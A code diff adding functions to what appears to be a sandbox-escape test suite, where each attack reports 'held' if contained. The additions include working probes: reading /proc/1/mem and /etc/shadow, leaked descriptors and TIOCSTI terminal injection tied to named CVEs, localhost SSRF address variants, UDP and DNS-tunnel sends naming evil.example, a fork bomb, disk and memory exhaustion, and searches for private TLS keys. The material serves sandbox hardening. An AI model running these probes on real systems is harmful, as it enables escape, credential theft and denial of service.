@@ -7,8 +7,10 @@ refusal. Each attack says where it was seen.
 from __future__ import annotations
 
 import ctypes
+import errno
 import fcntl
 import json
+import mmap
 import os
 import re
 import signal
@@ -133,6 +135,162 @@ def takes_what_no_namespace_holds(about: dict[str, Any]) -> str:
     asked = ((0, 0, 0, 0), (0, -3, 0, 0), (0x10000000, 0, 0, 0), (0, 0, 0, 0))
     given = [number for number, how in zip(numbers, asked, strict=True) if libc.syscall(number, *how) != -1]
     return f"given: {given}" if given else "held"
+
+
+@attack
+def finds_open_descriptors(about: dict[str, Any]) -> str:
+    """What its parent forgot to close (CVE-2024-21626 of runc)."""
+    left = [int(one) for one in os.listdir("/proc/self/fd") if int(one) > 2]
+    found = {one: target for one in left if (target := _target(f"/proc/self/fd/{one}"))}
+    return f"open: {found}" if any("self/fd" not in one and "/proc/" not in one for one in found.values()) else "held"
+
+
+def _target(link: str) -> str:
+    try:
+        return os.readlink(link)
+    except OSError:  # the folder itself, while it was listed
+        return ""
+
+
+@attack
+def looks_into_its_first_process(about: dict[str, Any]) -> str:
+    """The first process of a sandbox is bubblewrap, which read words of ours: its memory, descriptors, root."""
+    found = []
+    for name in ("mem", "root/etc/shadow", "fd/3", "fd/4", "fd/5", "fd/6", "fd/7"):
+        try:
+            with open(f"/proc/1/{name}", "rb") as opened:
+                found.append(f"{name}: {opened.read(10)!r}")
+        except OSError:
+            continue
+    return f"opened: {found}" if found else "held"
+
+
+@attack
+def opens_sockets_that_no_namespace_holds(about: dict[str, Any]) -> str:
+    """The host of a virtual machine (AF_VSOCK), the ciphers of the kernel (AF_ALG), packets, Bluetooth, TIPC."""
+    found = []
+    for family in (40, 38, 17, 31, 30, 21, 29):
+        try:
+            socket.socket(family, socket.SOCK_SEQPACKET if family == 38 else socket.SOCK_STREAM).close()
+        except OSError as problem:
+            if problem.errno in (errno.EAFNOSUPPORT, errno.EPERM):
+                continue
+        found.append(family)
+    return f"opened: {found}" if found else "held"
+
+
+@attack
+def types_into_the_terminal(about: dict[str, Any]) -> str:
+    """TIOCSTI puts letters into the terminal of whoever started it (CVE-2017-5226 of bubblewrap)."""
+    for place in (0, 1, 2):
+        try:
+            fcntl.ioctl(place, 0x5412, b"x")
+            return "typed"
+        except OSError:
+            continue
+    os.open("/dev/tty", os.O_RDWR)
+    return "opened"
+
+
+@attack
+def reaches_this_machine_in_other_clothes(about: dict[str, Any]) -> str:
+    """Addresses of this machine that are written otherwise, and names for it."""
+    port = about["unnamed"].rstrip("/").rpartition(":")[2]
+    hosts = (
+        "127.0.0.2",
+        "0.0.0.0",
+        "[::1]",
+        "[::ffff:127.0.0.1]",
+        "2130706433",
+        "0x7f.1",
+        "localhost.",
+    )
+    found = []
+    for host in hosts:
+        try:
+            found.append(_http(f"http://{host}:{port}/"))
+        except OSError:
+            continue
+    return f"reached: {found}" if found else "held"
+
+
+@attack
+def sends_datagrams(about: dict[str, Any]) -> str:
+    """UDP to the port of a host that it was given, and to any other."""
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
+        one.settimeout(0.3)
+        one.sendto(b"what it read", ("192.0.2.7", 443))
+        return f"answered: {one.recv(10)!r}"
+
+
+@attack
+def asks_for_names_without_an_end(about: dict[str, Any]) -> str:
+    """Names that were not given carry what it read (DNS tunnels), and keep the host busy."""
+    question = b"\0\7\1\0\0\1\0\0\0\0\0\0\4c2hh\4evil\7example\0\0\1\0\1"
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
+        for _ in range(2_000):
+            one.sendto(question, ("127.0.0.1", 53))
+    return "held"
+
+
+@attack
+def holds_connections_open(about: dict[str, Any]) -> str:
+    """More connections than anybody needs, on which it says nothing; others have to be served afterwards."""
+    port = int(about["named"].rstrip("/").rpartition(":")[2])
+    held = []
+    try:
+        for _ in range(200):
+            held.append(socket.create_connection(("localhost", port), timeout=0.5))
+    except OSError:
+        pass
+    for one in held:
+        one.close()
+    return "held"
+
+
+@attack
+def writes_a_long_file(about: dict[str, Any]) -> str:
+    """Fills the disk."""
+    with open(Path(about["write"], "long"), "wb") as file:
+        os.ftruncate(file.fileno(), about["bytes"] * 2)
+    return "written"
+
+
+@attack
+def takes_memory(about: dict[str, Any]) -> str:
+    """Takes more than its bound; nothing of it is touched."""
+    mmap.mmap(-1, about["memory"] * 2, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS).close()
+    return "taken"
+
+
+@attack
+def starts_processes(about: dict[str, Any]) -> str:
+    """A bomb of forks, which ends when its writing end does."""
+    reading, writing = os.pipe()
+    children = []
+    try:
+        for _ in range(about["processes"] * 2):
+            if (child := os.fork()) == 0:
+                os.close(writing)
+                os.read(reading, 1)
+                os._exit(0)
+            children.append(child)
+    except BlockingIOError:
+        return "held"
+    finally:
+        os.close(writing)
+        for child in children:
+            os.waitpid(child, 0)
+    return f"started: {len(children)}"
+
+
+@attack
+def finds_keys_among_certificates(about: dict[str, Any]) -> str:
+    """Private keys lie beside certificates; a sandbox of root's has root's eyes."""
+    found = [
+        place for place in ("/etc/ssl/private", "/etc/pki/tls/private") if Path(place).exists() and os.listdir(place)
+    ]
+    return f"found: {found}" if found else "held"
 
 
 @attack
